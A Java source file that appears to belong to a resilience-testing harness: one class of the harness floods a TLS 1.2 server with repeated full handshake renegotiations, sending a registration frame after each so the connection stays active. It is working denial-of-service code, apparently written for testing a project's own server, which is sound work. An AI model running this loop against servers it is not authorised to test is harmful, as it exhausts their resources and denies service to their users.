package io.hawser.attack.attacks;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.cert.CertificateFactory;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManagerFactory;

/** A connection of TLS 1.2 that has its keys agreed upon again and again. */
final class Renegotiation implements Attack {
  private static final int READ_MILLIS = 5_000;
  private static final int PAUSE_MILLIS = 100;

  @Override
  public String name() {
    return "renegotiation";
  }

  @Override
  public String does() {
    return "a registered client with TLS 1.2 renegotiates, as fast as it can";
  }

  @Override
  public Setup setup() {
    return Setup.TLS;
  }

  @Override
  public void run(Target target, Tally tally)
      throws IOException, GeneralSecurityException, InterruptedException {
    SSLContext context = trusting(Path.of(target.certificate()));
    while (!Thread.currentThread().isInterrupted()) {
      long opened = System.nanoTime();
      try (SSLSocket socket =
          (SSLSocket) context.getSocketFactory().createSocket(target.host(), target.port())) {
        tally.opened();
        renegotiate(socket, tally);
      } catch (IOException e) {
        tally.closed(opened);
      }
      TimeUnit.MILLISECONDS.sleep(PAUSE_MILLIS);
    }
  }

  private static void renegotiate(SSLSocket socket, Tally tally) throws IOException {
    socket.setEnabledProtocols(new String[] {"TLSv1.2"});
    socket.setSoTimeout(READ_MILLIS);
    byte[] registration = Frames.registerTm(RegisteredPeer.APPLICATION, "");
    socket.getOutputStream().write(registration);
    if (socket.getInputStream().read(new byte[1_024]) < 0) {
      throw new IOException("closed before the registration was answered");
    }
    while (!Thread.currentThread().isInterrupted()) {
      socket.getSession().invalidate(); // a whole handshake, none that resumes a session
      socket.startHandshake();
      socket.getOutputStream().write(registration); // so that it is no idle connection
      if (socket.getInputStream().read(new byte[1_024]) < 0) {
        throw new IOException("closed");
      }
      tally.sent(registration.length);
    }
  }

  private static SSLContext trusting(Path certificate)
      throws IOException, GeneralSecurityException {
    KeyStore trusted = KeyStore.getInstance(KeyStore.getDefaultType());
    trusted.load(null, null);
    try (InputStream in = Files.newInputStream(certificate)) {
      trusted.setCertificateEntry(
          "server", CertificateFactory.getInstance("X.509").generateCertificate(in));
    }
    TrustManagerFactory managers =
        TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
    managers.init(trusted);
    SSLContext context = SSLContext.getInstance("TLS");
    context.init(null, managers.getTrustManagers(), null);
    return context;
  }
}
